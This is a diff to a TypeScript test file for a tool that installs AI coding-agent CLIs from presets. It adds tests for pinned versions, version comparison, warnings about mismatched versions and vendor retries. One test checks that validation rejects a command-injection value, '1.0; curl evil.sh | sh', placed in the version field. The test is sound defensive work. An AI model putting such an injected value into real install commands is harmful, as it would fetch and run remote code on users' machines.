@@ -2,10 +2,11 @@
 // default network, its credentials its secrets, its install its setup (unless the agent has its
 // own); configurations without the new keys compile to the plans, and hashes, they had before.
 import { describe, expect, it } from 'vitest';
-import { credentialWarnings, endpointWarnings } from '../../../core/config/warnings.ts';
+import { credentialWarnings, endpointWarnings, versionWarnings } from '../../../core/config/warnings.ts';
+import { loadConfig } from '../../../core/config/load.ts';
 import { formatPlan } from '../../../core/plan/format.ts';
 import { endpointLines } from '../../../cli/commands/validate.ts';
-import { PRESET_NAMES, PRESETS, presetFlags, presetModel, presetSetup } from '../../../core/config/presets.ts';
+import { compareVersions, PRESET_NAMES, PRESETS, presetFlags, presetInstall, presetModel, presetSetup } from '../../../core/config/presets.ts';
 import { HOST_PATTERN } from '../../../core/config/schema.ts';
 import { isGitHubTokenName, secretNameProblem } from '../../../core/config/secret-names.ts';
 import { compilePlan } from '../../../core/plan/compile.ts';
@@ -27,7 +28,7 @@ describe('preset data', () => {
   it('names every preset once, with a CLI, an install, credentials, hosts an allow-list takes, and flags', () => {
     expect(Object.keys(PRESETS)).toEqual([...PRESET_NAMES]);
     for (const p of Object.values(PRESETS)) {
-      expect(p.install, p.name).toMatch(/\S/);
+      expect(p.version, p.name).toMatch(/^\d+\.\d+/);
       expect(p.credentials.length, p.name).toBeGreaterThan(0);
       for (const c of p.credentials) expect(isGitHubTokenName(c), `${p.name} ${c}`).toBe(false);
       for (const h of p.hosts) expect(h, p.name).toMatch(HOST_PATTERN);
@@ -36,8 +37,30 @@ describe('preset data', () => {
     }
   });
 
-  it('installs a CLI only when it is not on PATH', () => {
-    expect(presetSetup(PRESETS['claude-code'])).toBe('command -v claude >/dev/null 2>&1 || npm install --global @anthropic-ai/claude-code');
+  it('installs a CLI only when it is not on PATH, at the version it was checked with', () => {
+    expect(presetSetup(PRESETS['claude-code'])).toBe('command -v claude >/dev/null 2>&1 || npm install --global @anthropic-ai/claude-code@2.1.197');
+    expect(presetInstall(PRESETS.codex, '0.170.1')).toBe('npm install --global @openai/codex@0.170.1');
+    // A two-part version takes that release's latest patch.
+    expect(presetInstall(PRESETS.aider)).toBe("pipx install 'aider-chat==0.86.*'");
+    expect(presetInstall(PRESETS.aider, '0.86.1')).toBe("pipx install 'aider-chat==0.86.1'");
+  });
+
+  it('pins the versions README names', () => {
+    expect(Object.fromEntries(Object.values(PRESETS).map((p) => [p.name, p.version]))).toEqual({
+      'claude-code': '2.1.197',
+      codex: '0.171.0',
+      gemini: '0.61.0',
+      copilot: '1.0.102',
+      aider: '0.86',
+    });
+  });
+
+  it('orders versions by their numbers, a pre-release before its release', () => {
+    expect(compareVersions('2.1.197', '2.1.332')).toBe(-1);
+    expect(compareVersions('2.1.332', '2.1.197')).toBe(1);
+    expect(compareVersions('0.86', '0.86.0')).toBe(0);
+    expect(compareVersions('1.0.102-beta.1', '1.0.102')).toBe(-1);
+    expect(compareVersions('0.171.0', '0.99.9')).toBe(1);
   });
 
   it('passes the model without its provider, except to a CLI that routes by it', () => {
@@ -57,8 +80,9 @@ describe('compiling a preset agent', () => {
       timeoutMinutes: 45,
       env: {},
       secrets: ['ANTHROPIC_API_KEY', 'CLAUDE_CODE_OAUTH_TOKEN', 'TEAM_ROUTE'],
-      setup: 'command -v claude >/dev/null 2>&1 || npm install --global @anthropic-ai/claude-code',
+      setup: 'command -v claude >/dev/null 2>&1 || npm install --global @anthropic-ai/claude-code@2.1.197',
       network: { allow: ['api.anthropic.com'] },
+      version: '2.1.197',
     });
     expect(plan.services.web).toMatchObject({ setup: 'npm ci', setupTimeoutMinutes: 20, secrets: ['VERCEL_TOKEN'] });
   });
@@ -85,6 +109,58 @@ describe('compiling a preset agent', () => {
     expect(plan.agents.coder).toEqual({ name: 'coder', run: './code.sh', timeoutMinutes: 45, env: {} });
     const written = compilePlan(config('  coder: { run: ./code.sh }'), 'default');
     expect(written.hash).toBe(plan.hash);
+  });
+});
+
+describe('a pinned version and vendor retries', () => {
+  const file = (agent: string) => `version: 1
+agents:
+  coder: ${agent}
+services:
+  web: { repo: acme/web }
+pipelines:
+  default:
+    steps:
+      - { id: implement, kind: code, agent: coder }
+`;
+
+  it('installs the version an agent names, and writes vendor-retries only when it is not the default', () => {
+    const plan = compilePlan(config('  coder: { preset: codex, version: 0.170.0, vendor-retries: 1 }'), 'default');
+    expect(plan.agents.coder).toMatchObject({
+      setup: 'command -v codex >/dev/null 2>&1 || npm install --global @openai/codex@0.170.0',
+      version: '0.170.0',
+      vendorRetries: 1,
+    });
+    expect(compilePlan(config('  coder: { preset: codex, vendor-retries: 3 }'), 'default').agents.coder).not.toHaveProperty('vendorRetries');
+  });
+
+  it('warns, without failing, on a version older or newer than the one the preset was checked with', () => {
+    const older = versionWarnings(config('  coder: { preset: claude-code, version: 2.1.100 }'));
+    expect(older).toEqual([
+      {
+        path: ['agents', 'coder', 'version'],
+        message:
+          'agent "coder" installs Claude Code 2.1.100, older than 2.1.197, the version the preset\'s flags were checked against: it may lack a flag the preset passes (`npm run check:presets` checks them against the latest); leave `version` out to install 2.1.197',
+      },
+    ]);
+    expect(versionWarnings(config('  coder: { preset: claude-code, version: 2.1.332 }'))[0]!.message).toContain(
+      "newer than 2.1.197, the version the preset's flags were checked against: a flag the preset passes may have been dropped or renamed",
+    );
+    expect(versionWarnings(config('  coder: { preset: claude-code, version: 2.1.197 }'))).toEqual([]);
+    // As `conveyor validate` loads it (with the shell's variables).
+    const loaded = loadConfig(file('{ preset: gemini, version: 0.50.0, secrets: [GEMINI_API_KEY] }'), 'conveyor.yml', { isSet: () => false });
+    expect(loaded.ok && loaded.warnings?.map((w) => w.path)).toEqual(['agents.coder.version']);
+  });
+
+  it('refuses a version that is not one (it goes into the install command) and a version without a preset', () => {
+    const bad = loadConfig(file('{ preset: codex, version: "1.0; curl evil.sh | sh" }'), 'conveyor.yml');
+    expect(!bad.ok && bad.errors.map((e) => `${e.path}: ${e.message}`)).toEqual([
+      'agents.coder.version: must be a version such as 2.1.197 (digits and dots, an optional -suffix), got a string ("1.0; curl evil.sh | sh")',
+    ]);
+    const plain = loadConfig(file('{ run: ./agent.sh, version: 1.2.3 }'), 'conveyor.yml');
+    expect(!plain.ok && plain.errors.map((e) => e.path)).toEqual(['agents.coder.version']);
+    const retries = loadConfig(file('{ preset: codex, vendor-retries: 9 }'), 'conveyor.yml');
+    expect(retries.ok).toBe(false);
   });
 });
 
